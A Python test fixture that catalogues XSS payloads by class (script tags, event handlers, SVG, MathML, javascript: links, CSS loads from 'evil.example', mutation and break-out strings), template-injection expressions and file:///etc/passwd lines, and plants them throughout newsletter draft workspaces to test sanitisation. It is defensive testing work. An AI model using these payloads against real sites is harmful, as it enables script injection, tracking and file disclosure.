"""Hostile drafts: what somebody could put into a draft, a picture's text or a feed, by class; and the workspace that carries it everywhere.

Whatever runs sets ``window.hit`` and opens a dialog, or asks a host of its own for something. Texts that must come out letter by letter are in
``LITERAL``. Nothing here is ever shown outside a test.
"""

from __future__ import annotations

from io import BytesIO
from pathlib import Path

from PIL import Image

from tests.builders import ISSUE, draft, workspace

HOST = "evil.example"
RUN = "window.hit=1;alert(1)"

PAYLOADS: dict[str, tuple[str, ...]] = {
    "script": (
        f"<script>{RUN}</script>",
        f"<ScRiPt >{RUN}</sCrIpT >",
        f"<script src=https://{HOST}/a.js></script>",
        f"<scr<script>ipt>{RUN}</script>",
        f"<script type=module>{RUN}</script>",
        f"`</code><script>{RUN}</script>`",
        f"<<script>{RUN}//<</script>",
        f"<script\t\n>{RUN}</script\n>",
    ),
    "handlers": (
        f'<img src=x onerror="{RUN}">',
        f"<img/src/onerror={RUN}>",
        f'<p onmouseover="{RUN}" onclick="{RUN}">本文</p>',
        f'<details open ontoggle="{RUN}"><summary>要約</summary></details>',
        f'![図](x.png "a\\" onerror=\'{RUN}\'")',
        f'<body onload="{RUN}"><a autofocus tabindex=1 onfocus="{RUN}">鍵</a>',
        f'<video src=x onerror="{RUN}"><source onerror="{RUN}"></video>',
        f'<marquee onstart="{RUN}">流れる字</marquee>',
    ),
    "svg": (
        f'<svg onload="{RUN}"><circle r=9 /></svg>',
        f"<svg><script>{RUN}</script></svg>",
        f'<svg><a xlink:href="javascript:{RUN}"><text>絵</text></a></svg>',
        f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
        f'<svg><set attributeName=href to="javascript:{RUN}"><a><text>絵</text></a></svg>',
        f'<svg><use href="data:image/svg+xml,<svg id=x onload={RUN}>#x"></use></svg>',
        f'<svg><image href="https://{HOST}/x.svg" onerror="{RUN}"></image></svg>',
        f'<svg><foreignObject><img src=x onerror="{RUN}"></foreignObject></svg>',
    ),
    "mathml": (
        f'<math href="javascript:{RUN}">式</math>',
        f'<math><mtext><img src=x onerror="{RUN}"></mtext></math>',
        f'<math><maction actiontype="statusline#https://{HOST}" href="javascript:{RUN}">式</maction></math>',
        f'<math><annotation-xml encoding="text/html"><img src=x onerror="{RUN}"></annotation-xml></math>',
        f'<math><mi xlink:href="javascript:{RUN}">式</mi></math>',
        f"<math><style><img src=x onerror={RUN}></style></math>",
        f'<math><mglyph src="https://{HOST}/x.png"></mglyph></math>',
        f"<math><semantics><annotation-xml><script>{RUN}</script></annotation-xml></semantics></math>",
    ),
    "addresses": (
        f"[鍵](javascript:{RUN})",
        f'<a href="JaVaScRiPt:{RUN}">鍵</a>',
        f'<a href="java&#9;script:{RUN}">鍵</a>',
        f'<a href="&#1;javascript:{RUN}">鍵</a>',
        f'<a href="&#x6A;avascript&colon;{RUN}">鍵</a>',
        f"[鍵](data:text/html,<script>{RUN}</script>)",
        f'<a href="vbscript:{RUN}">鍵</a>',
        '<a href="file:///etc/passwd">鍵</a>',
        f"[鍵](java%0ascript:{RUN})",
    ),
    "styles": (
        f"<style>body{{background:url(https://{HOST}/x)}}</style>",
        f'<p style="background:url(https://{HOST}/x)">本文</p>',
        f'<p style="width:expression({RUN})">本文</p>',
        f'<link rel=stylesheet href="https://{HOST}/x.css">',
        f"<style>@import 'https://{HOST}/x.css';*{{display:none}}</style>",
        f'<table background="https://{HOST}/x"><tr><td>表</td></tr></table>',
        f'<p style="behavior:url(https://{HOST}/x.htc);-moz-binding:url(https://{HOST}/x.xml)">本文</p>',
        f'<ul style="list-style:url(https://{HOST}/x)"><li>項目</li></ul>',
    ),
    "hidden": (
        '<p style="display:none">見えない字</p>',
        "<p hidden>見えない字</p>",
        '<span style="font-size:0">見えない字</span>',
        '<div style="opacity:0">見えない字</div>',
        '<p style="position:absolute;left:-9999px">見えない字</p>',
        f'<img src="https://{HOST}/pixel.gif" width=1 height=1>',
        '<p style="visibility:hidden">見えない字</p>',
        '<p style="color:#fff;background:#fff;height:0;overflow:hidden">見えない字</p>',
    ),
    "comments": (
        f"<!--[if mso]><script>{RUN}</script><![endif]-->",
        f"<!--[if !mso]><!--><script>{RUN}</script><!--<![endif]-->",
        f"--> <script>{RUN}</script> <!--",
        f"<!--><img src=x onerror={RUN}>-->",
        f"<![CDATA[<script>{RUN}</script>]]>",
        f"<?php {RUN} ?><!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
        f"<!--[if gte mso 9]><xml><o:p><script>{RUN}</script></o:p></xml><![endif]-->",
        f"<!-- --!><script>{RUN}</script>",
    ),
    "forms": (
        f'<form action="https://{HOST}/"><input name=p type=password><button>送る</button></form>',
        f'<iframe src="https://{HOST}/"></iframe>',
        f'<iframe srcdoc="<script>parent.window.hit=1;{RUN}</script>"></iframe>',
        f'<object data="https://{HOST}/x.swf"></object><embed src="https://{HOST}/x">',
        f'<isindex action="javascript:{RUN}"><select><option>一</select>',
        f'<meta http-equiv=refresh content="0;url=https://{HOST}/"><base href="https://{HOST}/">',
        f'<button formaction="javascript:{RUN}">送る</button>',
        f'<input type=image src="https://{HOST}/x.png" onerror="{RUN}"><keygen>',
    ),
    "mutations": (
        f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
        f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
        f'<form><math><mtext></form><form><mglyph><style></math><img src onerror="{RUN}">',
        f"<listing>&lt;img src=1 onerror={RUN}&gt;</listing>",
        f'<a title="`&quot;&gt;&lt;img src=x onerror={RUN}&gt;" href="https://example.jp/">鍵</a>',
        f"<textarea><img title='</textarea><img src=x onerror={RUN}>'></textarea>",
        f"<xmp><p title='</xmp><img src=x onerror={RUN}>'></xmp>",
        f"<table><td><style></td></table><img src=x onerror={RUN}>",
    ),
    "break-outs": (
        f"</td></tr></table></body><script>{RUN}</script>",
        f"</title></head><body onload={RUN}>",
        f"</style><script>{RUN}</script>",
        f'"><img src=x onerror={RUN}>',
        f"'><svg onload={RUN}>",
        f"---\n見出し: 別の記事\n---\n<script>{RUN}</script>",
        f"\n-->\n<script>{RUN}</script>\n<!--",
        f"]]></description></item><script>{RUN}</script>",
    ),
}

# Expressions and merge tags of people's templates and senders: readers see them as they were written.
LITERAL: dict[str, tuple[str, ...]] = {
    "expressions": (
        "{{ 7*7 }}",
        "{{{ 7*7 }}}",
        "{% raw %}",
        "{%- for n in range(9) -%}",
        "{# 7*7 #}",
        "{{ ''.__class__.__mro__ }}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
    ),
    "merge tags": (
        "*|UNSUB|*",
        "*|MC:SUBJECT|*",
        "*|IF:FNAME|*",
        "[[unsubscribe]]",
        "[[name]]",
        "%%unsubscribe%%",
        "<<Email>>",
        "{{unsubscribe}}",
        "{%unsubscribe%}",
        "${name}",
    ),
}
SECTIONS = ("イクレイ日本の活動", "会員自治体ニュース", "国内外の動き", "募集・お知らせ")
_TEXTS = ("会場", "主催", "参加費", "問合せ先", "担当課", "詳細の注記", "写真提供", "代替文", "自治体")
_ORIGIN = ("原題", "出典", "国", "都市", "翻訳", "校閲", "利用条件", "原文", "要約")


def hostile_workspace(folder: Path, payloads: tuple[str, ...]) -> Path:
    """A workspace in which every one of ``payloads`` stands wherever a draft, a case or the issue itself has text; one picture is to be prepared."""
    root = workspace(folder, {"issue.md": _issue(payloads), "images/a.png": _picture()})
    for number, payload in enumerate(payloads, 1):
        line = " ".join(payload.splitlines())
        entries = dict.fromkeys(_TEXTS, line) | {"写真": "images/a.png"}
        if number % 2:
            entries |= {"要約": f"要約です。{line}", "詳細": line, "申込": line}
        text = draft(title=f"見出し{number} {line}", section=SECTIONS[number % 4], body=_body(payload, line), **entries)
        (root / "issues/2025-01" / f"{number * 10}-a.md").write_text(text, "utf-8")
        for suffix in (".md", ".source.md"):
            case = root / "issues/cases/sample" / f"case{number}{suffix}"
            case.parent.mkdir(parents=True, exist_ok=True)
            case.write_text(draft(title=f"事例{number} {line}", body=payload, **dict.fromkeys(_ORIGIN, line)), "utf-8")
    return root


def _issue(payloads: tuple[str, ...]) -> str:
    """The head with a payload in subject and lead line, all cases, and a greeting of payloads."""
    line = " ".join(payloads[0].splitlines())
    cases = "".join(f"\n  - sample/case{number}" for number, _ in enumerate(payloads, 1))
    head = ISSUE.replace("1月号\n", f"1月号 {line}\n").replace("今号：見本", f"今号：{line}\n事例:{cases}")
    return head + "\n\n".join(payloads) + "\n"


def _body(payload: str, line: str) -> str:
    """The payload in a sentence, by itself, in a list, a table and a quotation, and as a picture's text."""
    table = f"| 表 |\n| --- |\n| {line} |"
    return f"前の文。{payload}後の文。\n\n{payload}\n\n- {line}\n\n{table}\n\n> {line}\n\n![図 {line}](images/a.png)\n"


def _picture() -> bytes:
    written = BytesIO()
    Image.new("RGB", (60, 40), "#8fd6c3").save(written, "PNG")
    return written.getvalue()
